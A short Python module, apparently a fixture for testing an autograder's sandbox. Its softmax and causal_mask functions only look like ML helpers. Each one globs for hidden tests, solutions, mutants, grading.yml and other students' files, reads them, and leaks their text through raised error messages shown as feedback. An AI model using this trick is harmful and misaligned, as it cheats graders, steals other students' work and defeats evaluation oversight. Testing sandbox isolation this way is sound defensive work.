# attack: reads the hidden tests, the solutions, grading.yml and other students' work, and puts the text in
#   its error messages (which are feedback)
# layer: mount namespace: only the interpreter, the venv, the worker's files and this module are visible
# imports: os, sys, glob
# needs: namespaces
import glob as _glob
import os as _os
import sys as _sys

_ROOTS = {_os.path.dirname(_sys.prefix.rstrip("/")), "/work/main", _os.getcwd()}
_PATTERNS = ("solutions/*.py", "autograder/hidden/*.py", "autograder/mutants/*/*.py", "grading.yml")


def _loot():
    found = []
    for root in _ROOTS:
        for pattern in _PATTERNS:
            found += _glob.glob(_os.path.join(root, pattern))
    found += _glob.glob("/tmp/autograder-*/**/*.py", recursive=True)
    text = []
    for path in found[:20]:
        try:
            with _os.fdopen(_os.open(path, _os.O_RDONLY)) as f:
                text.append(f.read())
        except OSError:
            pass
    return "\n".join(text)


def softmax(x, dim=-1):
    raise RuntimeError(_loot() or "nothing found")


def causal_mask(length, device=None):
    raise ValueError(_loot()[-3000:] or "nothing found")
